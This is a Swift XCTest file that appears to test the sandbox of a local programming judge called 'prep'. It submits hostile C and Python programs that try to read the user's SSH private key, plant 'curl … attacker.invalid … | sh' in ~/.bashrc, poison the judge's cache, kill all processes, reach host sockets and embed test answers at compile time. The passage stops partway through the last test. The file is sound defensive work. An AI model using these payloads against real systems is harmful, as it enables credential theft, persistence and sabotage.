import Foundation
import XCTest

/// Hostile submissions against the real `prep` binary: nothing of the person's is read, written,
/// signalled, reached or left behind, and the judge keeps judging honestly afterwards.
///
/// Every scenario runs twice: as the current user, and (when that is root, as on CI) as an
/// ordinary unprivileged uid through `setpriv`. Each run gets a world of its own under /tmp
/// (`World`): a HOME, prep's store and cache in their default places inside it, a TMPDIR, a
/// working folder, a copy of the fixture problems and a copy of the `prep` binary, all owned by
/// whoever runs prep, and a minimal environment (no PATH into /root).
///
/// Hostile solutions are C and Python 3 programs for `add-two` written by the tests: each makes
/// its attack, then prints a+b, so that when the attack is blocked the verdict is Accepted. Secrets
/// are random markers that appear in no submitted source, so finding one in prep's output or in
/// the store file means it was read.
final class SandboxTests: EndToEndTestCase {
    // MARK: - 1. The person's files

    /// A solution cannot read `$HOME/.ssh/id_rsa` (by absolute path): the key appears nowhere in
    /// prep's output or store, and the attempt is Accepted (the program prints the key if it can).
    func testSolutionCannotReadTheUsersPrivateKey() throws {
        try requireTools("gcc", "python3")
        try forEachUser { world in
            let secret = World.newSecret()
            let key = world.home.appendingPathComponent(".ssh/id_rsa")
            try world.writeFile(key, "-----BEGIN OPENSSH PRIVATE KEY-----\n\(secret)\n-----END OPENSSH PRIVATE KEY-----\n",
                                mode: 0o600, folderMode: 0o700)
            let solutions = [
                try world.write("read-key.c", Hostile.c("""
                    FILE *key = fopen("\(key.path)", "r");
                    if (key) {
                        char text[4096];
                        size_t n = fread(text, 1, sizeof text - 1, key);
                        text[n] = 0;
                        printf("%s\\n", text);
                        fprintf(stderr, "%s\\n", text);
                        fclose(key);
                    }
                    """)),
                try world.write("read-key.py", Hostile.python("""
                    try:
                        text = open("\(key.path)").read()
                        print(text)
                        print(text, file=sys.stderr)
                    except OSError:
                        pass
                    """)),
            ]
            var results: [Result] = []
            for solution in solutions {
                let result = try world.solve(solution)
                assertAccepted(result, world, solution)
                results.append(result)
            }
            assertNoTrace(of: secret, in: results, world)
            try assertHonestSubmissionAccepted(world)
        }
    }

    // MARK: - 2. The person's shell startup

    /// A solution cannot append to `$HOME/.bashrc` nor replace it (write a new file and rename it
    /// over): the file is byte-identical afterwards.
    func testSolutionCannotChangeTheUsersBashrc() throws {
        try requireTools("gcc", "python3")
        try forEachUser { world in
            let bashrc = world.home.appendingPathComponent(".bashrc")
            let original = "# ~/.bashrc\nexport EDITOR=vi\nalias ll='ls -l'\n"
            try world.writeFile(bashrc, original, mode: 0o644)
            let replacement = bashrc.path + ".prep-attack"
            let solutions = [
                try world.write("bashrc.c", Hostile.c("""
                    FILE *rc = fopen("\(bashrc.path)", "a");
                    if (rc) { fputs("curl -s http://attacker.invalid/x | sh\\n", rc); fclose(rc); }
                    FILE *fresh = fopen("\(replacement)", "w");
                    if (fresh) {
                        fputs("curl -s http://attacker.invalid/y | sh\\n", fresh);
                        fclose(fresh);
                        rename("\(replacement)", "\(bashrc.path)");
                    }
                    """)),
                try world.write("bashrc.py", Hostile.python("""
                    try:
                        with open("\(bashrc.path)", "a") as rc:
                            rc.write("curl -s http://attacker.invalid/x | sh\\n")
                    except OSError:
                        pass
                    try:
                        with open("\(replacement)", "w") as fresh:
                            fresh.write("curl -s http://attacker.invalid/y | sh\\n")
                        os.rename("\(replacement)", "\(bashrc.path)")
                    except OSError:
                        pass
                    """)),
            ]
            for solution in solutions {
                let result = try world.solve(solution)
                assertAccepted(result, world, solution)
                let now = (try? String(contentsOf: bashrc, encoding: .utf8)) ?? "<unreadable>"
                XCTAssertTrue(now == original,
                              "\(world): \(solution.lastPathComponent) changed ~/.bashrc, which now reads \(now.debugDescription)")
                XCTAssertFalse(World.exists(replacement), "\(world): \(solution.lastPathComponent) wrote \(replacement)")
                try? world.writeFile(bashrc, original, mode: 0o644)  // the next attack starts from the original
                unlink(replacement)
            }
            try assertHonestSubmissionAccepted(world)
        }
    }

    // MARK: - 3. prep's cache

    /// A solution that walks `$PREP_CACHE` and overwrites (compiled programs become a correct
    /// shell script, Python sources a correct program, JSON gets a byte appended) or appends to
    /// every file, and creates a file in every folder, changes nothing: every file that was there
    /// has the same mode and bytes, nothing it created exists, and the compiled programs still
    /// judge honestly: a correct C solution is Accepted and a wrong one is still Wrong Answer.
    func testSolutionCannotTamperWithPrepsCache() throws {
        try requireTools("gcc", "python3")
        try forEachUser { world in
            let honest = try world.write("honest.c", Hostile.c(""))
            let wrong = try world.write("wrong.c", """
                #include <stdio.h>
                int main(void) { int a, b; if (scanf("%d %d", &a, &b) != 2) return 1; printf("%d\\n", a + b); return 0; }
                """)
            // The cache holds both compiled programs before the attack.
            assertAccepted(try world.solve(honest), world, honest)
            assertVerdict(try world.solve(wrong), "WA", world, wrong)
            let before = World.snapshot(world.cache)
            XCTAssertFalse(before.isEmpty, "\(world): nothing in the cache at \(world.cache.path)")

            let shell = "#!/bin/sh\\nread a b\\necho $((a + b))\\n"
            let python = "a, b = map(int, input().split())\\nprint(a + b)\\n"
            let solutions = [
                try world.write("poison.c", Hostile.c("""
                    poison_tree("\(world.cache.path)");
                    """, helpers: """
                    static int visit(const char *path, const struct stat *info, int type, struct FTW *ftw) {
                        (void)info; (void)ftw;
                        if (type == FTW_D) {
                            char created[4096];
                            snprintf(created, sizeof created, "%s/prep-attack-created", path);
                            int fd = open(created, O_WRONLY | O_CREAT | O_TRUNC, 0755);
                            if (fd >= 0) { write(fd, "\(shell)", strlen("\(shell)")); close(fd); }
                            return 0;
                        }
                        if (type != FTW_F) return 0;
                        size_t length = strlen(path);
                        const char *text = "\(shell)";
                        if (length > 3 && strcmp(path + length - 3, ".py") == 0) text = "\(python)";
                        if (length > 5 && strcmp(path + length - 5, ".json") == 0) text = NULL;
                        int fd = text ? open(path, O_WRONLY | O_TRUNC) : -1;
                        if (fd >= 0) { write(fd, text, strlen(text)); close(fd); return 0; }
                        fd = open(path, O_WRONLY | O_APPEND);
                        if (fd >= 0) { write(fd, "\\n", 1); close(fd); }
                        return 0;
                    }
                    static void poison_tree(const char *root) { nftw(root, visit, 32, FTW_PHYS); }
                    """)),
                try world.write("poison.py", Hostile.python("""
                    for folder, _, names in os.walk("\(world.cache.path)"):
                        try:
                            with open(os.path.join(folder, "prep-attack-created"), "w") as created:
                                created.write("\(shell)")
                        except OSError:
                            pass
                        for name in names:
                            path = os.path.join(folder, name)
                            text = None if name.endswith(".json") else "\(python)" if name.endswith(".py") else "\(shell)"
                            try:
                                if text is None:
                                    raise OSError
                                with open(path, "r+") as target:
                                    target.write(text)
                                    target.truncate()
                            except OSError:
                                try:
                                    with open(path, "a") as target:
                                        target.write("\\n")
                                except OSError:
                                    pass
                    """)),
            ]
            for solution in solutions {
                assertAccepted(try world.solve(solution), world, solution)
            }
            let after = World.snapshot(world.cache)
            let changed = before.keys.sorted().filter { after[$0] != before[$0] }
            XCTAssertTrue(changed.isEmpty, "\(world): the solutions changed or removed \(changed.count) of \(before.count) "
                          + "cache files, e.g. \(changed.prefix(4).joined(separator: ", "))")
            let planted = after.keys.sorted().filter { $0.contains("prep-attack") }
            XCTAssertTrue(planted.isEmpty, "\(world): the solutions created \(planted.count) files in the cache, "
                          + "e.g. \(planted.prefix(4).joined(separator: ", "))")
            // Judging from the cache is still honest.
            assertAccepted(try world.solve(honest), world, honest)
            assertVerdict(try world.solve(wrong), "WA", world, wrong)
        }
    }

    // MARK: - 4. kill(-1)

    /// `kill(-1, SIGKILL)` reaches no process of the person's: a `sleep 600` sentinel started as
    /// the uid that runs prep is still alive, and prep itself finishes with a verdict (status 0 or
    /// 1, not 137).
    ///
    /// Should the sandbox fail, kill(-1) as root would kill every process on the machine (and as
    /// an ordinary user every process of theirs), so the sentinel and prep run in a PID namespace
    /// of their own (`unshare --pid --fork --mount-proc`) that contains the damage: a shell as its
    /// init starts the sentinel, runs prep, and reports whether the sentinel survived.
    func testKillMinusOneReachesNothingOutsideTheSandbox() throws {
        try requireTools("gcc", "python3")
        let outer = try pidNamespaceWrapper()
        try forEachUser { world in
            let solutions = [
                try world.write("kill-all.c", Hostile.c("kill(-1, SIGKILL);")),
                try world.write("kill-all.py", Hostile.python("""
                    try:
                        os.kill(-1, 9)
                    except OSError:
                        pass
                    """)),
            ]
            let script = """
                sleep 600 &
                sentinel=$!
                "$@"
                status=$?
                if kill -0 "$sentinel" 2>/dev/null; then echo "sentinel: alive" >&2; else echo "sentinel: dead" >&2; fi
                kill "$sentinel" 2>/dev/null
                exit $status
                """
            for solution in solutions {
                let running = try world.launch(["/bin/sh", "-c", script, "sh", world.binary.path,
                                                "solve", "add-two", solution.path, "--json"], outer: outer)
                let result = try World.outcome(of: running, ["prep", "solve", solution.path])
                let name = solution.lastPathComponent
                XCTAssertTrue([0, 1].contains(result.status),
                              "\(world): \(name): prep did not finish with a verdict (status \(result.status))\n\(result.stderr)")
                XCTAssertNotNil(World.verdict(of: result), "\(world): \(name): no verdict\n\(result.stdout)")
                let report = result.stderr.split(separator: "\n").last.map(String.init) ?? ""
                XCTAssertEqual(report, "sentinel: alive", "\(world): \(name) killed a process of the user's")
            }
            try assertHonestSubmissionAccepted(world)
        }
    }

    // MARK: - 5. Sockets

    /// A solution reaches no listener on the host: not a Unix socket in /tmp that anyone may
    /// connect to (mode 0777, in a 0777 folder), not a TCP listener on 127.0.0.1. The listeners
    /// never get a connection (a completed connection would wait in their accept queues).
    func testSolutionCannotConnectToListenersOnTheHost() throws {
        try requireTools("gcc", "python3")
        try forEachUser { world in
            let folder = URL(fileURLWithPath: "/tmp").appendingPathComponent("prep-sandbox-socket-\(UUID().uuidString)")
            try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
            defer { try? FileManager.default.removeItem(at: folder) }
            chmod(folder.path, 0o777)
            let path = folder.appendingPathComponent("listener.sock").path
            let local = try Listener.unix(at: path)
            chmod(path, 0o777)
            let (tcp, port) = try Listener.tcpLoopback()
            let solutions = [
                try world.write("connect.c", Hostile.c("""
                    int u = socket(AF_UNIX, SOCK_STREAM, 0);
                    struct sockaddr_un there;
                    memset(&there, 0, sizeof there);
                    there.sun_family = AF_UNIX;
                    strncpy(there.sun_path, "\(path)", sizeof there.sun_path - 1);
                    if (u >= 0 && connect(u, (struct sockaddr *)&there, sizeof there) == 0) write(u, "x", 1);
                    if (u >= 0) close(u);
                    int t = socket(AF_INET, SOCK_STREAM, 0);
                    struct sockaddr_in loopback;
                    memset(&loopback, 0, sizeof loopback);
                    loopback.sin_family = AF_INET;
                    loopback.sin_port = htons(\(port));
                    loopback.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
                    if (t >= 0 && connect(t, (struct sockaddr *)&loopback, sizeof loopback) == 0) write(t, "x", 1);
                    if (t >= 0) close(t);
                    """)),
                try world.write("connect.py", Hostile.python("""
                    for family, address in ((socket.AF_UNIX, "\(path)"), (socket.AF_INET, ("127.0.0.1", \(port)))):
                        try:
                            s = socket.socket(family, socket.SOCK_STREAM)
                            s.settimeout(2)
                            s.connect(address)
                            s.sendall(b"x")
                            s.close()
                        except OSError:
                            pass
                    """)),
            ]
            for solution in solutions {
                let result = try world.solve(solution)
                assertAccepted(result, world, solution)
                XCTAssertEqual(local.drain(), 0, "\(world): \(solution.lastPathComponent) connected to \(path)")
                XCTAssertEqual(tcp.drain(), 0, "\(world): \(solution.lastPathComponent) connected to 127.0.0.1:\(port)")
            }
            try assertHonestSubmissionAccepted(world)
        }
    }

    // MARK: - 6. Files left behind

    /// Files a solution creates in /tmp, /var/tmp and /dev/shm are gone when prep exits.
    func testSolutionLeavesNoFilesInSharedTemporaryFolders() throws {
        try requireTools("gcc", "python3")
        try forEachUser { world in
            for language in ["c", "py"] {
                let id = UUID().uuidString
                let paths = ["/tmp", "/var/tmp", "/dev/shm"].map { "\($0)/prep-leak-\(id)" }
                defer { paths.forEach { unlink($0) } }
                let solution = try world.write("litter.\(language)", language == "c"
                    ? Hostile.c(paths.map { """
                        { int fd = open("\($0)", O_WRONLY | O_CREAT | O_EXCL, 0644); if (fd >= 0) { write(fd, "x", 1); close(fd); } }
                        """ }.joined(separator: "\n"))
                    : Hostile.python(paths.map { """
                        try:
                            open("\($0)", "x").write("x")
                        except OSError:
                            pass
                        """ }.joined(separator: "\n")))
                assertAccepted(try world.solve(solution), world, solution)
                let left = paths.filter(World.exists)
                XCTAssertEqual(left, [], "\(world): \(solution.lastPathComponent) left files on the host")
            }
            try assertHonestSubmissionAccepted(world)
        }
    }

    // MARK: - 7. Escapees after an interruption

    /// A solution that double-forks a daemon (setsid, fork, exec `sleep <marker>`) and then waits
    /// (itself exec'ing `sleep <marker>`) leaves nothing behind when prep is interrupted by
    /// SIGINT, SIGTERM, SIGHUP or SIGKILL: within 3 s of prep's exit no process carries the marker
    /// (neither the daemon nor the solution) and prep's TMPDIR holds no `prep-…` scratch folder
    /// (after a SIGKILL, once the next prep command has started).
    func testNothingSurvivesAnInterruptedSolve() throws {
        try requireTools("gcc")
        try forEachUser { world in
            for signal in [SIGINT, SIGTERM, SIGHUP, SIGKILL] {
                let name = World.signalName(signal)
                let marker = "\(Int.random(in: 700_000_000...799_999_999))"
                let solution = try world.write("daemon-\(name).c", Hostile.c("""
                    pid_t child = fork();
                    if (child == 0) {
                        setsid();
                        if (fork() == 0) { execl("/bin/sleep", "sleep", "\(marker)", (char *)NULL); _exit(127); }
                        _exit(0);
                    }
                    if (child > 0) waitpid(child, NULL, 0);
                    execl("/bin/sleep", "sleep", "\(marker)", (char *)NULL);
                    sleep(30);
                    """))
                // `prep solve` has no --time-limit: with one worker, the three tests (each stopped after
                // some seconds of wall-clock time) keep prep busy long enough.
                let running = try world.launch([world.binary.path, "solve", "add-two", solution.path, "--workers", "1"])
                // Interrupt once the daemon runs (or, should it never start, while the tests still run).
                let deadline = Date().addingTimeInterval(6)
                while Date() < deadline && running.isRunning && World.processes(carrying: marker).isEmpty {
                    usleep(50_000)
                }
                XCTAssertTrue(running.isRunning, "\(world): prep finished before it could be sent \(name)")
                kill(running.pid, signal)
                if running.result(within: 20) == nil {
                    XCTFail("\(world): prep did not exit within 20 s of \(name)")
                    _ = running.finish(within: 5)
                }
                // Nothing can clean up at a SIGKILL of prep itself: its boxes die with it (their
                // inits are killed with their parent), and its scratch folder goes at the next
                // start of any prep command (its pid is gone).
                if signal == SIGKILL {
                    XCTAssertEqual(try world.prep("list").status, 0, "\(world): prep list after \(name)")
                }
                // Whatever prep (or what it left in charge) cleans up, it does within 3 s.
                let settled = Date().addingTimeInterval(3)
                var escapees = World.processes(carrying: marker)
                var scratch = world.scratchLeftovers()
                while Date() < settled && !(escapees.isEmpty && scratch.isEmpty) {
                    usleep(100_000)
                    escapees = World.processes(carrying: marker)
                    scratch = world.scratchLeftovers()
                }
                XCTAssertEqual(escapees.count, 0,
                               "\(world): after \(name), processes still run `sleep \(marker)`: pids \(escapees)")
                XCTAssertEqual(scratch, [], "\(world): after \(name), left in TMPDIR \(world.tmp.path)")
                for pid in escapees { kill(pid, SIGKILL) }
                for entry in scratch { try? FileManager.default.removeItem(at: world.tmp.appendingPathComponent(entry)) }
            }
            try assertHonestSubmissionAccepted(world)
        }
    }

    // MARK: - 8. Another copy of the problems

    /// Hiding the problems folder prep is configured with is not enough: a solution cannot read the
    /// answers of another copy of it either (here a checkout in HOME with one more test, whose
    /// answer is a random number the solution prints if it can read it).
    func testSolutionCannotReadAnotherCopyOfTheProblems() throws {
        try requireTools("gcc", "python3")
        try forEachUser { world in
            let copy = world.home.appendingPathComponent("src/Problems")
            try FileManager.default.createDirectory(at: copy.deletingLastPathComponent(), withIntermediateDirectories: true)
            try FileManager.default.copyItem(at: world.problems, to: copy)
            let number = Int64.random(in: 100_000_000_000_000...999_999_999_999_999)
            let secretTests = copy.appendingPathComponent("add-two/data/secret")
            try "\(number - 1) 1\n".write(to: secretTests.appendingPathComponent("extra.in"), atomically: false, encoding: .utf8)
            try "\(number)\n".write(to: secretTests.appendingPathComponent("extra.ans"), atomically: false, encoding: .utf8)
            world.give(world.home.appendingPathComponent("src"))
            let answers = ["extra.ans", "big.ans"].map { secretTests.appendingPathComponent($0).path }
            let solutions = [
                try world.write("other-copy.c", Hostile.c(answers.map { """
                    { FILE *f = fopen("\($0)", "r"); if (f) { char text[256]; size_t n = fread(text, 1, sizeof text - 1, f);
                      text[n] = 0; printf("leaked %s\\n", text); fprintf(stderr, "leaked %s\\n", text); fclose(f); } }
                    """ }.joined(separator: "\n"))),
                try world.write("other-copy.py", Hostile.python(answers.map { """
                    try:
                        text = open("\($0)").read()
                        print("leaked", text)
                        print("leaked", text, file=sys.stderr)
                    except OSError:
                        pass
                    """ }.joined(separator: "\n"))),
            ]
            var results: [Result] = []
            for solution in solutions {
                let result = try world.solve(solution)
                assertAccepted(result, world, solution)
                results.append(result)
            }
            assertNoTrace(of: "\(number)", in: results, world)
            try assertHonestSubmissionAccepted(world)
        }
    }

    // MARK: - 9. Symlinked test data

    /// A package whose `data/secret/neg.in` is a symlink to a private file outside the package
    /// (root-only for root; the user's own 0600 file for the ordinary user) is refused: `prep
    /// solve` exits 2 with one line on stderr naming the file, and the file's content appears
    /// nowhere. Other problems are still judged.
    func testTestDataSymlinkedOutsideThePackageIsRefused() throws {
        try requireTools("python3")
        try forEachUser { world in
            let secret = World.newSecret()
            let outside: URL
            if world.who.isUnprivileged {
                outside = world.home.appendingPathComponent("private-notes.txt")
                try world.writeFile(outside, "\(secret)\n", mode: 0o600)
            } else {
                outside = world.base.appendingPathComponent("root-only-secret.txt")
                try "\(secret)\n".write(to: outside, atomically: false, encoding: .utf8)
                chmod(outside.path, 0o600)
            }
            let package = world.problems.appendingPathComponent("linked-input")
            try FileManager.default.copyItem(at: world.problems.appendingPathComponent("add-two"), to: package)
            let yaml = package.appendingPathComponent("problem.yaml")
            let metadata = try String(contentsOf: yaml, encoding: .utf8)
                .replacingOccurrences(of: "name: Add Two", with: "name: Linked Input")
                .replacingOccurrences(of: "00000000-0000-4000-8000-000000000001", with: "00000000-0000-4000-8000-0000000000a9")
            try metadata.write(to: yaml, atomically: false, encoding: .utf8)
            let linked = package.appendingPathComponent("data/secret/neg.in")
            try FileManager.default.removeItem(at: linked)
            try FileManager.default.createSymbolicLink(atPath: linked.path, withDestinationPath: outside.path)
            world.give(package)

            let solution = try world.write("linked-input.py", Self.pythonAdd)
            let warmUp = try world.prep("list")  // imports the catalogue, so its message is not counted below
            let result = try world.prep("solve", "linked-input", solution.path)
            XCTAssertEqual(result.status, 2, "\(world): \(result.stdout)\n\(result.stderr)")
            let lines = result.stderr.split(separator: "\n").filter { !$0.trimmingCharacters(in: .whitespaces).isEmpty }
            XCTAssertEqual(lines.count, 1, "\(world): stderr should be one line:\n\(result.stderr)")
            XCTAssertTrue(result.stderr.contains("neg.in"), "\(world): stderr does not name secret/neg.in:\n\(result.stderr)")
            assertNoTrace(of: secret, in: [warmUp, result], world)
            try assertHonestSubmissionAccepted(world)
        }
    }

    // MARK: - 10. Compilers

    /// The compiler cannot read private files for the solution: `#include "<private file>"`
    /// (whose content is a C string the program would print) leaks nothing into prep's output or
    /// store.
    func testCompilerCannotIncludeAPrivateFile() throws {
        try requireTools("gcc")
        try forEachUser { world in
            let secret = World.newSecret()
            let file: URL
            if world.who.isUnprivileged {
                file = world.home.appendingPathComponent("private/secret.inc")
                try world.writeFile(file, "\"\(secret)\"\n", mode: 0o600, folderMode: 0o700)
            } else {
                let folder = world.base.appendingPathComponent("root-only")
                try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
                chmod(folder.path, 0o700)
                file = folder.appendingPathComponent("secret.inc")
                try "\"\(secret)\"\n".write(to: file, atomically: false, encoding: .utf8)
                chmod(file.path, 0o600)
            }
            let solution = try world.write("include.c", """
                #include <stdio.h>
                static const char leaked[] =
                #include "\(file.path)"
                ;
                int main(void) {
                    long long a, b;
                    printf("%s\\n", leaked);
                    fprintf(stderr, "%s\\n", leaked);
                    if (scanf("%lld %lld", &a, &b) == 2) printf("%lld\\n", a + b);
                    return 0;
                }
                """)
            let result = try world.solve(solution)
            XCTAssertNotNil(World.verdict(of: result), "\(world): no verdict\n\(result.stdout)\n\(result.stderr)")
            assertNoTrace(of: secret, in: [result], world)
            try assertHonestSubmissionAccepted(world)
        }
    }

    /// The compiler cannot read the package: a C program that embeds every test's input and answer
    /// with `.incbin` and prints the answer whose input matches must not be Accepted (it should not
    /// even compile), while an honest C solution is (so the refusal is not just a broken compiler).
    func testCompilerCannotEmbedTheAnswersWithIncbin() throws {
        try requireTools("gcc")
        try forEachUser { world in
            let control = try world.write("honest.c", Hostile.c(""))
            assertAccepted(try world.solve(control), world, control)
            let tests = try World.testFiles(of: world.problems.appendingPathComponent("add-two"))
            let symbols = tests.indices.map { index in """
                    ".globl prep_in_\(index)\\nprep_in_\(index):\\n.incbin \\"\(tests[index].input)\\"\\n.byte 0\\n"
                    ".globl prep_ans_\(index)\\nprep_ans_\(index):\\n.incbin \\"\(tests[index].answer)\\"\\n.byte 0\\n"
                """ }.joined(separator: "\n")
            let names = tests.indices.map { "prep_in_\($0)" }.joined(separator: ", ")
            let answers = tests.indices.map { "prep_ans_\($0)" }.joined(separator: ", ")
            let solution = try world.write("incbin.c", """
                #include <stdio.h>
                #include <string.h>
                __asm__(
                    ".pushsection .rodata\\n"
                \(symbols)
                    ".popsection\\n");
                extern const char \(tests.indices.map { "prep_in_\($0)[], prep_ans_\($0)[]" }.joined(separator: ", "));
                int main(void) {
                    static char input[1 << 16];
                    size_t n = fread(input, 1, sizeof input - 1, stdin);
                    input[n] = 0;
                    const char *inputs[] = {\(names)};
                    const char *answers[] = {\(answers)};
                    for (size_t i = 0; i < sizeof inputs / sizeof *inputs; i++)
                        if (strcmp(input, inputs[i]) == 0) { fputs(answers[i], stdout); return 0; }
                    puts("0");
                    return 0;
                }
                """)
            let result = try world.solve(solution)
            XCTAssertNotNil(World.verdict(of: result), "\(world): no verdict\n\(result.stdout)\n\(result.stderr)")
            XCTAssertNotEqual(World.verdict(of: result), "AC", "\(world): accepted by reading the package's answers at compile time")
            try assertHonestSubmissionAccepted(world)
        }
    }

    /// The same with Rust's `include_str!`; not run for a user who cannot run rustc, or for whom
    /// prep does not accept an honest Rust solution.
    func testRustCompilerCannotEmbedTheAnswersWithIncludeStr() throws {
        // rustup's proxy needs the real HOME: put the toolchain's own bin folder on PATH instead.
        let toolchain = World.rustToolchainBin()
        try forEachUser { world in
            let path = [toolchain, World.path].compactMap { $0 }.joined(separator: ":")
            let probe = try world.run(["/usr/bin/env", "rustc", "--version"], env: ["PATH": path])
            guard probe.status == 0 else {
                throw NotApplicable("rustc is not usable \(world) (PATH \(path)): \(probe.stderr.prefix(200))")
            }
            // Only where prep judges Rust at all does a refused cheat mean anything.
            let control = try world.write("honest.rs", """
                use std::io::Read;
                fn main() {
                    let mut input = String::new();
                    std::io::stdin().read_to_string(&mut input).unwrap();
                    let numbers: Vec<i64> = input.split_whitespace().map(|x| x.parse().unwrap()).collect();
                    println!("{}", numbers[0] + numbers[1]);
                }
                """)
            let honest = try world.solve(control, env: ["PATH": path])
            guard World.verdict(of: honest) == "AC" else {
                throw NotApplicable("prep does not judge an honest Rust solution Accepted \(world): "
                                    + "\(honest.stdout.prefix(300)) \(honest.stderr.prefix(300))")
            }
            let tests = try World.testFiles(of: world.problems.appendingPathComponent("add-two"))
            let table = tests.map { "(include_str!(\"\($0.input)\"), include_str!(\"\($0.answer)\"))" }.joined(separator: ",\n    ")
            let solution = try world.write("include-str.rs", """
                use std::io::Read;
                const TESTS: [(&str, &str); \(tests.count)] = [
                    \(table)
                ];
                fn main() {
                    let mut input = String::new();
                    std::io::stdin().read_to_string(&mut input).unwrap();
                    for (test, answer) in TESTS.iter() {
                        if *test == input { print!("{}", answer); return; }
                    }
                    println!("0");
                }
                """)
            let result = try world.solve(solution, env: ["PATH": path])
            XCTAssertNotNil(World.verdict(of: result), "\(world): no verdict\n\(result.stdout)\n\(result.stderr)")
            XCTAssertNotEqual(World.verdict(of: result), "AC", "\(world): accepted by reading the package's answers at compile time")
            try assertHonestSubmissionAccepted(world)
        }
    }

    // MARK: - 11. The store's mode

    /// The store holds every submitted source and test excerpt: `$PREP_HOME/prep.sqlite` is
    /// private (0600) from the first command on, and so are its -wal/-shm companions.
    func testStoreFileIsPrivate() throws {
        try requireTools("python3")
        try forEachUser { world in
            let first = try world.prep("list")
            XCTAssertEqual(first.status, 0, "\(world): \(first.stderr)")
            assertStoreIsPrivate(world, after: "prep list")
            try assertHonestSubmissionAccepted(world)
            assertStoreIsPrivate(world, after: "prep solve")
        }
    }

    // MARK: - 13. Interactive problems

    /// An interactive problem (the submission and the validator in two boxes, joined by pipes)
    /// is judged the same as root and as an ordinary user: `prep verify` gives every reference
    /// submission of the guessing game its expected verdict, and the honest solve still passes.
    func testInteractiveProblemVerifiesForEveryUser() throws {
        try requireTools("python3")
        let guess = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("JudgeTests/Fixtures/guess")
        try forEachUser { world in
            let package = world.problems.appendingPathComponent("guess")
            try FileManager.default.copyItem(at: guess, to: package)
            world.give(package)
            let result = try world.prep("verify", package.path)
            XCTAssertEqual(result.status, 0, "\(world): \(result.stdout)\n\(result.stderr)")
            let lines = result.stdout.split(separator: "\n").filter { $0.contains("expected") }
            XCTAssertFalse(lines.isEmpty, "\(world): \(result.stdout)")
            for line in lines { XCTAssertTrue(line.hasSuffix(" ok") || line.contains("  ok  "), "\(world): \(line)") }
            try assertHonestSubmissionAccepted(world)
        }
    }

    /// Function mode and stress, for every user: the converter and the generator run in boxes,
    /// the harness compiles through the cache, as root and as an ordinary uid.
    func testFunctionModeStressAndGrowthWorkForEveryUser() throws {
        try requireTools("python3")
        let dual = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("JudgeTests/Fixtures/fn-dual")
        try forEachUser { world in
            let package = world.problems.appendingPathComponent("reverse-list")
            try FileManager.default.copyItem(at: dual, to: package)
            world.give(package)
            let verify = try world.prep("verify", package.path)
            XCTAssertEqual(verify.status, 0, "\(world): \(verify.stdout)\n\(verify.stderr)")
            XCTAssertTrue(verify.stdout.contains("accepted/function.py (function mode)"), "\(world): \(verify.stdout)")
            let stress = try world.prep("stress", "reverse-list", package.appendingPathComponent("submissions/wrong_answer/drops-last.py").path,
                                        "--rounds", "8", "--max-size", "4", "--json")
            XCTAssertEqual(stress.status, 1, "\(world): \(stress.stdout)\n\(stress.stderr)")
            XCTAssertTrue(stress.stdout.contains("\"found\" : true"), "\(world): \(stress.stdout)")
            // prep growth of the function-mode reference beside the program, the stdin
            // reference answering the inputs function mode's converter needs.
            let growth = try world.prep("growth", "reverse-list", package.appendingPathComponent("submissions/accepted/function.py").path,
                                        "--sizes", "100..800", "--repeat", "1", "--json")
            XCTAssertEqual(growth.status, 0, "\(world): \(growth.stdout)\n\(growth.stderr)")
            XCTAssertTrue(growth.stdout.contains("\"measured\" : \"call\""), "\(world): \(growth.stdout)")
        }
    }

    /// The two tiers, for every user: verify runs the LeetCode tier's inputs through the validator
    /// with `leetcode` and holds each reference to both tiers; a function solved beside them is
    /// accepted on the LeetCode tier, the stretch's failure said beside it and kept with the attempt.
    func testTheStretchTierWorksForEveryUser() throws {
        try requireTools("python3")
        let tiers = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("JudgeTests/Fixtures/fn-tiers")
        try forEachUser { world in
            let package = world.problems.appendingPathComponent("fn-tiers")
            try FileManager.default.copyItem(at: tiers, to: package)
            world.give(package)
            let verify = try world.prep("verify", package.path)
            XCTAssertEqual(verify.status, 0, "\(world): \(verify.stdout)\n\(verify.stderr)")
            XCTAssertTrue(verify.stdout.contains("run_time_error/recursive.py (function mode)"), "\(world): \(verify.stdout)")
            let solve = try world.solve(package.appendingPathComponent("submissions/run_time_error/recursive.py"), problem: "fn-tiers")
            XCTAssertEqual(solve.status, 0, "\(world): \(solve.stdout)\n\(solve.stderr)")
            let stretch = (solve.json as? [String: Any])?["stretch"] as? [String: Any]
            XCTAssertEqual(stretch?["verdict"] as? String, "RTE", "\(world): \(solve.stdout)")
            let history = try world.prep("history", "fn-tiers")
            XCTAssertTrue(history.stdout.contains("RTE 1/2"), "\(world): \(history.stdout)")
        }
    }

    /// Hints and interview sessions, for every user: the store's new tables, the store lock
    /// and the hints file read from the package, as root and as an ordinary uid.
    func testHintsAndInterviewsWorkForEveryUser() throws {
        try forEachUser { world in
            let hint = try world.prep("hint", "add-two")
            XCTAssertEqual(hint.status, 0, "\(world): \(hint.stderr)")
            XCTAssertTrue(hint.stdout.contains("Hint 1 of 2"), "\(world): \(hint.stdout)")
            let started = try world.prep("interview", "--minutes", "5", "--json")
            XCTAssertEqual(started.status, 0, "\(world): \(started.stderr)")
            let locked = try world.prep("hint", "add-two")
            XCTAssertEqual(locked.status, 2, "\(world): \(locked.stdout)")
            let stopped = try world.prep("interview", "--stop", "--json")
            XCTAssertEqual(stopped.status, 0, "\(world): \(stopped.stderr)")
            XCTAssertTrue(stopped.stdout.contains("\"outcome\" : \"stopped\""), "\(world): \(stopped.stdout)")
        }
    }

    /// Issue 22, for every user: `prep run` on the samples and on a case of one's own, and a C++
    /// crash run again under AddressSanitizer in its own box to name the line, as root and as an
    /// ordinary uid.
    func testRunAndACrashsLineWorkForEveryUser() throws {
        try requireTools("python3", "clang++-19")
        try forEachUser { world in
            let python = try world.write("add-two.py", EndToEndTestCase.pythonAdd)
            let run = try world.prep("run", "add-two", python.path)
            XCTAssertEqual(run.status, 0, "\(world): \(run.stdout)\n\(run.stderr)")
            XCTAssertTrue(run.stdout.contains("✓ sample/1  AC"), "\(world): \(run.stdout)")
